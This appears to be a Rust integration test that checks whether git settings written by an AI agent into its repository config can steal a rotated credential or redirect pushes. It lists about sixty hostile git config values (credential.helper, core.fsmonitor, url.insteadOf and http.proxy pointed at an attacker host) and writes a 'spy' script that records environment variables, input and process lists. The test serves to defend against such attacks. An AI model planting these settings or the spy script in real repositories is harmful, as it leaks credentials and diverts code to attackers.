//! Settings that the agent writes into its repository's configuration. The next turn rotates the credential and
//! publishes under it.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::json;

use crate::page::{self, Result, assert_hides};
use crate::scene::{SessionOf, note, session_id, told};
use crate::support::git_server::{GitServer, git};
use crate::support::process_scan::ProcessScan;
use crate::support::runtime::{Runtime, workspace};
use crate::support::{Folder, files_with, processes_of, token, until};

const WORKS: &str = "works, and sends nothing elsewhere";
const FAILS: &str = "fails, and sends nothing elsewhere";

/// A setting, and what is expected. `SPY` is a program, `EVIL` the attacker's host, `HOST` the remote's, `LOOT` a
/// folder outside.
const ROWS: &[(&str, &str)] = &[
    ("core.fsmonitor = SPY", WORKS),
    ("core.hooksPath = LOOT", WORKS),
    ("core.sshCommand = SPY", WORKS),
    ("core.gitProxy = SPY", WORKS),
    ("core.askPass = SPY", WORKS),
    ("core.pager = SPY", WORKS),
    ("core.editor = SPY", WORKS),
    ("core.alternateRefsCommand = SPY", WORKS),
    ("core.worktree = LOOT", WORKS),
    ("core.bare = true", FAILS),
    ("core.attributesFile = LOOT/attributes", WORKS),
    ("core.excludesFile = LOOT/excludes", WORKS),
    ("sequence.editor = SPY", WORKS),
    ("credential.helper = SPY", WORKS),
    ("credential.helper = !SPY", WORKS),
    ("credential.http://HOST.helper = SPY", WORKS),
    ("credential.http://HOST/.helper = SPY", WORKS),
    ("credential.http://HOST.username = other", WORKS),
    ("credential.useHttpPath = true", WORKS),
    ("url.http://EVIL/.insteadOf = http://HOST/", WORKS),
    ("url.http://EVIL/.pushInsteadOf = http://HOST/", WORKS),
    ("url.http://EVIL/r.git.insteadOf = http://HOST/r.git", WORKS),
    ("url.ext::SPY.insteadOf = http://HOST/", WORKS),
    ("http.proxy = http://EVIL", WORKS),
    ("http.http://HOST/.proxy = http://EVIL", WORKS),
    ("http.http://HOST/r.git.proxy = http://EVIL", WORKS),
    ("http.sslVerify = false", WORKS),
    ("http.http://HOST/.followRedirects = true", WORKS),
    ("http.http://HOST/.extraHeader = X-Evil: 1", WORKS),
    ("http.curloptResolve = HOST:127.0.0.9", WORKS),
    ("http.cookieFile = LOOT/cookies", WORKS),
    ("remote.origin.url = http://EVIL/r.git", WORKS),
    ("remote.origin.pushurl = http://EVIL/r.git", WORKS),
    ("remote.origin.uploadpack = SPY", WORKS),
    ("remote.origin.receivepack = SPY", WORKS),
    ("remote.origin.proxy = http://EVIL", WORKS),
    ("remote.origin.vcs = ext", WORKS),
    ("remote.origin.mirror = true", WORKS),
    ("remote.pushDefault = evil", WORKS),
    ("branch.main.pushRemote = evil", WORKS),
    ("push.recurseSubmodules = on-demand", WORKS),
    ("push.pushOption = evil", WORKS),
    ("uploadpack.packObjectsHook = SPY", WORKS),
    ("uploadpack.hideRefs = refs/heads", WORKS),
    ("filter.spy.clean = tee -a LOOT/filtered", WORKS),
    ("filter.spy.process = SPY", FAILS),
    ("diff.external = SPY", WORKS),
    ("diff.spy.textconv = SPY", WORKS),
    ("commit.gpgSign = true", WORKS),
    ("gpg.program = SPY", WORKS),
    ("commit.template = LOOT/template", WORKS),
    ("alias.commit = !SPY", WORKS),
    ("include.path = LOOT/included", WORKS),
    ("includeIf.gitdir:/.path = LOOT/included", WORKS),
    ("extensions.worktreeConfig = true", WORKS),
    ("protocol.ext.allow = always", WORKS),
    ("trace2.eventTarget = LOOT/trace", WORKS),
    ("extensions.evil = true", WORKS),
    ("core.repositoryFormatVersion = 99", FAILS),
];

/// Notes what it can see: its words, its input, every environment and argument list in reach.
fn write_spy(path: &Path, loot: &Path) {
    let out = loot.join("seen");
    let text = format!(
        "#!/bin/sh\n{{ echo \"$0 $*\"; env; timeout 0.2 cat; ps axeww; }} >> {}/$$ 2>&1\n",
        out.display()
    );
    std::fs::create_dir(&out).expect("it is new");
    std::fs::write(path, text).expect("it is written");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("it is there");
}

/// The program that notes what it sees, and the same as each hook that git looks for.
fn write_spies(spy: &Path, loot: &Path) {
    write_spy(spy, loot);
    for hook in [
        "pre-commit",
        "pre-push",
        "reference-transaction",
        "post-checkout",
    ] {
        std::fs::copy(spy, loot.join(hook)).expect("it is there");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn settings_of_the_agent_get_no_credential_and_divert_none() {
    let (server, attacker) = (GitServer::start().await, GitServer::start().await);
    let (root, loot) = (Folder::new(), Folder::new());
    let (host, evil) = (server.host(), attacker.host());
    let spy = loot.path().join("spy");
    write_spies(&spy, loot.path());
    let included = format!(
        "[url \"http://{evil}/\"]\n\tinsteadOf = http://{host}/\n[core]\n\tfsmonitor = {}\n",
        spy.display()
    );
    std::fs::write(loot.path().join("included"), &included).expect("it is written");
    std::fs::write(loot.path().join("attributes"), "* filter=spy\n").expect("it is written");
    let env = [("DEV_ALLOWED_HOSTS", &*host)];
    let runtime = Runtime::start(root.path(), &env).await;
    let tokens: Vec<_> = (0..=ROWS.len()).map(|_| token()).collect();
    let scan = ProcessScan::start(tokens.clone());
    let session = SessionOf::new(&runtime, &session_id(0));
    let url = server.url("r");
    server.allow(&tokens[0]);
    session.put_workspace(workspace(&url, 1, &tokens[0])).await;
    session.put_turn(1, 1, json!({})).await;
    assert_eq!(session.end(1).await["type"], "complete");
    let config = session.repo().join(".git/config");
    let clean = std::fs::read(&config).expect("it is there");
    std::fs::write(
        session.repo().join(".gitattributes"),
        "*.md filter=spy diff=spy\n",
    )
    .expect("it is written");
    let (mut results, mut wrong) = (Vec::new(), Vec::new());
    for (number, (setting, expected)) in (2..).zip(ROWS) {
        let (token, old) = (&tokens[number - 1], &tokens[number - 2]);
        let number = u32::try_from(number).expect("small");
        let written = setting
            .replace("SPY", &spy.to_string_lossy())
            .replace("LOOT", &loot.path().to_string_lossy())
            .replace("EVIL", &evil)
            .replace("HOST", &host);
        let (key, value) = written.split_once(" = ").expect("the row is a setting");
        git(
            &session.repo(),
            &["config", "--file", ".git/config", key, value],
        );
        let nested = session.repo().join(".git/config.worktree");
        if key == "extensions.worktreeConfig" {
            std::fs::write(&nested, &included).expect("it is written");
        }
        server.allow(token);
        server.revoke(old);
        session
            .put_workspace(workspace(&url, u64::from(number), token))
            .await;
        session
            .put_turn(number, u64::from(number), json!({ "autoCommit": true }))
            .await;
        let end = session.end(number).await;
        let verdict = if end["type"] == "complete" {
            WORKS
        } else {
            FAILS
        };
        note(&mut wrong, &format!("{setting}: {end}"), verdict, *expected);
        let pushed = git(&server.path("r"), &["show", "main:NOTES.md"]);
        let has_pushed = pushed.contains(&format!("prompt {number}"));
        note(&mut wrong, setting, has_pushed, *expected == WORKS);
        for event in session.events().await {
            assert_hides(&event.to_string(), token);
        }
        results.push(Result {
            input: (*setting).to_owned(),
            expected: (*expected).to_owned(),
            seen: if has_pushed {
                "complete, pushed".to_owned()
            } else {
                told(&end)
            },
        });
        std::fs::write(&config, &clean).expect("it is written");
        let _ = std::fs::remove_file(nested);
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert_eq!(scan.finish().leaks, Vec::<String>::new());
    assert!(files_with(loot.path(), &tokens).is_empty());
    let spied = std::fs::read_dir(loot.path().join("seen")).expect("it is there");
    assert!(spied.count() > 0, "git did run what the agent had written");
    for seen in attacker.seen() {
        assert!(seen.token.is_none(), "{}", seen.path);
    }
    for token in &tokens {
        assert_hides(&runtime.log(), token);
    }
    until("everything is gone", || {
        processes_of(&runtime.store).is_empty()
    })
    .await;
    page::check("settings", &results);
}
